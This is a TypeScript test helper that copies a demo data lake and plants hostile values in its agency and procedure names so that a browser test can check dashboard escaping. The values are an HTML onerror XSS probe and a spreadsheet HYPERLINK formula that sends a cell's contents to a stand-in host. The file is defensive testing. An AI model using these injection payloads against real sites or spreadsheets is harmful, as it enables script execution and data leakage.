/**
 * The dashboards' browser test runs on the real demo lake (test/helpers/demo-lake.ts: the whole
 * pipeline over a generated province plus the real 766 files). This module copies what the
 * dashboards read from that lake (marts, snapshots, meta.json) and plants two hostile names in the
 * copy, in every mart and snapshot that carries them, so that one build proves both:
 *
 * - an agency whose name carries HTML (shown as text, never as markup);
 * - a procedure whose name starts with '=' (a spreadsheet formula: neutralised in what the site serves);
 * - three files a land rejected whole (the demo has none): a Biểu 06 waiting, named with HTML, a published
 *   766 answer waiting and a portal export discarded (REJECTED_WAITING, REJECTED_REAL, REJECTED_DISCARDED),
 *   which the data-quality page lists and warns about, and the banners of the pages they feed announce.
 */
import { existsSync } from 'node:fs';
import { cp, mkdir, readdir, rename } from 'node:fs/promises';
import path from 'node:path';
import { ident, literal, withDuckDb, type DuckDb } from '../../functions/core/engine/duckdb.js';

export const HOSTILE_HTML_NAME = '<img src=x onerror=alert(1)>Sở Thử';
export const HOSTILE_FORMULA_NAME = '=HYPERLINK("http://x.example/?"&A1,"Thủ tục")';

export interface HostileLake {
  lakeDir: string;
  /** The agency renamed HTML_NAME (no series break, ranked in the newest PAR year). */
  htmlAgency: string;
  /** The procedure renamed FORMULA_NAME (most late dossiers in the newest year with receipts). */
  formulaProcedure: string;
}

/**
 * Copy `demoLakeDir`'s marts, snapshots and meta.json to `lakeDir` and plant the hostile names. The demo
 * province itself never carries them (what visitors and the README's pictures see); with
 * `plant: false` the copy stays as the pipeline made it (the agency and procedure are still chosen).
 */
export async function copyLakeWithHostileNames(demoLakeDir: string, lakeDir: string, options: { plant?: boolean } = {}): Promise<HostileLake> {
  await mkdir(path.join(lakeDir, 'models'), { recursive: true });
  await cp(path.join(demoLakeDir, 'models', 'marts'), path.join(lakeDir, 'models', 'marts'), { recursive: true });
  if (existsSync(path.join(demoLakeDir, 'snapshots'))) await cp(path.join(demoLakeDir, 'snapshots'), path.join(lakeDir, 'snapshots'), { recursive: true });
  if (existsSync(path.join(demoLakeDir, 'meta.json'))) await cp(path.join(demoLakeDir, 'meta.json'), path.join(lakeDir, 'meta.json'));
  const marts = path.join(lakeDir, 'models', 'marts');
  const pq = (name: string): string => `read_parquet(${literal(path.join(marts, `${name}.parquet`))})`;

  return withDuckDb(async (db) => {
    const htmlAgency = String((await db.all(`
      select p.agency_code from ${pq('par_agency_years')} p join ${pq('agencies')} a using (agency_code)
      where p.year = (select max(year) from ${pq('par_agency_years')})
        and a.successor_code is null and a.predecessor_codes is null and p.agency_code in (select agency_code from ${pq('agency_years')})
      order by p.rank desc, p.agency_code limit 1`))[0]?.agency_code);
    const formulaProcedure = String((await db.all(`
      select procedure_code from ${pq('procedure_years')}
      where year = (select coalesce(max(year) filter (where received_new > 0), max(year)) from ${pq('province_years')})
      order by resolved_late desc, procedure_code limit 1`))[0]?.procedure_code);

    if (options.plant === false) return { lakeDir, htmlAgency, formulaProcedure };
    await plantRejectedFiles(db, path.join(marts, 'rejected_files.parquet'));
    const files = [path.join(marts)];
    for (const month of await readdir(path.join(lakeDir, 'snapshots')).catch(() => [] as string[])) files.push(path.join(lakeDir, 'snapshots', month));
    for (const dir of files) {
      for (const file of (await readdir(dir)).filter((f) => f.endsWith('.parquet'))) {
        await plant(db, path.join(dir, file), htmlAgency, formulaProcedure);
      }
    }
    return { lakeDir, htmlAgency, formulaProcedure };
  });
}

/** A rejected file as the pipeline lists it (functions/core/lake/land.ts, publishRejectedFiles), waiting for an operator. */
export const REJECTED_WAITING = {
  original_name: `${HOSTILE_HTML_NAME}.xlsx`,
  period: '2025-11',
  rejected_at: '2025-12-02 08:15:00',
  error: `[pipeline] [land] Failed to read ${HOSTILE_HTML_NAME}.xlsx: not a complete XLSX file (the zip directory is missing; truncated download?)`,
};
/** A published 766 answer of the national portal rejected and waiting: only the real pages are short of it. */
export const REJECTED_REAL = { original_name: 'dvcqg-2026-10.json', period: '2026-10', rejected_at: '2026-11-02 06:00:00', error: '[pipeline] [land] Failed to read dvcqg-2026-10.json: not valid JSON (Unexpected end of JSON input)' };
export const REJECTED_DISCARDED = {
  original_name: 'portal_2025-10.csv',
  period: '2025-10',
  rejected_at: '2025-11-03 07:00:00',
  discarded_at: '2025-11-04 09:30:00',
  error: '[pipeline] [land] Failed to read portal_2025-10.csv (row 1): unexpected columns: missing "Có kết quả điện tử"',
};

async function plantRejectedFiles(db: DuckDb, file: string): Promise<void> {
  const row = (r: { kind: string; dataset: string; source: string; name: string; period: string; at: string; discarded: string | null; reason: string; error: string }): string =>
    `select ${literal(r.kind)}, ${literal(r.dataset)}, ${literal(r.source)}, ${literal('ab'.repeat(32))}, ${literal(r.name)}, ${literal(r.period)}, 1000::bigint,
       ${literal(r.at)}::timestamp - interval 1 hour, ${literal(r.at)}::timestamp, ${r.discarded ? "'discarded'" : "'waiting'"}, ${r.discarded ? `${literal(r.discarded)}::timestamp` : 'null::timestamp'}, ${literal(r.reason)}, ${literal(r.error)}`;
  const tmp = `${file}.tmp`;
  await db.run(`copy (
      select * from read_parquet(${literal(file)})
      union all ${row({ kind: 'bieu06-xlsx', dataset: 'bieu06', source: 'report', name: REJECTED_WAITING.original_name, period: REJECTED_WAITING.period, at: REJECTED_WAITING.rejected_at, discarded: null, reason: 'xlsx_incomplete', error: REJECTED_WAITING.error })}
      union all ${row({ kind: 'score766-results', dataset: 'score766', source: 'dvcqg', name: REJECTED_REAL.original_name, period: REJECTED_REAL.period, at: REJECTED_REAL.rejected_at, discarded: null, reason: 'not_json', error: REJECTED_REAL.error })}
      union all ${row({ kind: 'portal-csv', dataset: 'dossiers', source: 'portal', name: REJECTED_DISCARDED.original_name, period: REJECTED_DISCARDED.period, at: REJECTED_DISCARDED.rejected_at, discarded: REJECTED_DISCARDED.discarded_at, reason: 'columns', error: REJECTED_DISCARDED.error })}
    ) to ${literal(tmp)} (format parquet)`);
  await rename(tmp, file);
}

async function plant(db: DuckDb, file: string, agency: string, procedure: string): Promise<void> {
  const columns = new Set((await db.all(`describe select * from read_parquet(${literal(file)})`)).map((c) => String(c.column_name)));
  const replace: string[] = [];
  const when = (col: string, cond: string, value: string): string => `case when ${cond} then ${literal(value)} else ${ident(col)} end as ${ident(col)}`;
  if (columns.has('agency_code')) {
    const isAgency = `agency_code = ${literal(agency)}${columns.has('dataset_label') ? " and dataset_label = 'demo'" : ''}`;
    for (const col of ['agency_name', 'unit_name', 'unit_short_name']) if (columns.has(col)) replace.push(when(col, isAgency, HOSTILE_HTML_NAME));
  }
  if (columns.has('procedure_code') && columns.has('procedure_name')) replace.push(when('procedure_name', `procedure_code = ${literal(procedure)}`, HOSTILE_FORMULA_NAME));
  if (replace.length === 0) return;
  const tmp = `${file}.tmp`;
  await db.run(`copy (select * replace (${replace.join(', ')}) from read_parquet(${literal(file)})) to ${literal(tmp)} (format parquet)`);
  await rename(tmp, file);
}
